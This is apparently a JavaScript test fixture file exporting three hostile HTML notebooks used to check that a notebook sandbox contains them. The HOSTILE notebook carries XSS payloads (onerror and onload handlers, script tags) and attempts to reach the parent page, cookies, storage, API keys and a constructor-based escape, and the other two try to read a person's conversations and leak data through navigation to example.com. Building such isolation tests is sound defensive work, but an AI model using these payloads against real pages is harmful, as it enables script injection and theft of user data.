/** The attempts of a hostile notebook; each line of its output is the outcome of one. */
export const HOSTILE = `<!doctype html>
<img src="x" onerror="window.hostile = 'in the page'">
<script>window.hostile = 'in the page'</script>
<notebook theme="air">
  <title>&lt;img src=x onerror="window.hostile = 'title'"&gt;</title>
  <script id="1" type="text/html">
    <img src="data:," onerror="document.body.dataset.html = 'ran'"><svg onload="window.hostile = 1"></svg>
  </script>
  <script id="2" type="module">
    const late = () => new Promise((_, fail) => setTimeout(fail, 3000));
    const attempt = async (name, run) => {
      try {
        return name + ': ' + (await Promise.race([run(), late()]));
      } catch {
        return name + ': stopped';
      }
    };
    const attempts = await Promise.all([
      attempt('page', () => { window.parent.parent.hostile = 1; return 'reached'; }),
      attempt('document', () => window.parent.document.title),
      attempt('storage', () => window.localStorage.length),
      attempt('database', () => window.indexedDB.databases().then(() => 'reached')),
      attempt('cookies', () => document.cookie + 'reached'),
      attempt('network', () => fetch('https://example.com/?stolen').then(() => 'reached')),
      attempt('own host', () => fetch('./models/').then(() => 'reached')),
      attempt('image', () => new Promise((done, fail) => {
        const i = new Image();
        i.onload = () => done('reached');
        i.onerror = fail;
        i.src = 'https://example.com/a.png';
      })),
      attempt('worker', () => new Promise((done, fail) => {
        const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        w.onmessage = () => done('reached');
        w.onerror = fail;
      })),
      attempt('window', () => (window.open('https://example.com/') ? 'reached' : Promise.reject())),
      attempt('keys', () => lab.keys()),
      attempt('prototype', () => lab.constructor.constructor('return parent.document.title')())
    ]);
    for (const line of attempts) display(html\`<p>\${line}\`);
  </script>
  <script id="3" type="module">
    window.top.location = 'https://example.com/?moved';
  </script>
</notebook>`;

/** Asks for the conversations of the person. */
export const ASKING = `<!doctype html>
<notebook theme="air">
  <title>Asking</title>
  <script id="1" type="module">
    const told = await lab.conversations();
    display(html\`<p>\${told.length} conversations, first message: \${told[0]?.messages[0]?.text}\`);
  </script>
</notebook>`;

/** Tries to leak data in its own address. */
export const LEAVING = `<!doctype html>
<notebook theme="air">
  <title>Leaving</title>
  <script id="1" type="module">
    window.location.href = 'https://example.com/?carried=away';
  </script>
</notebook>`;
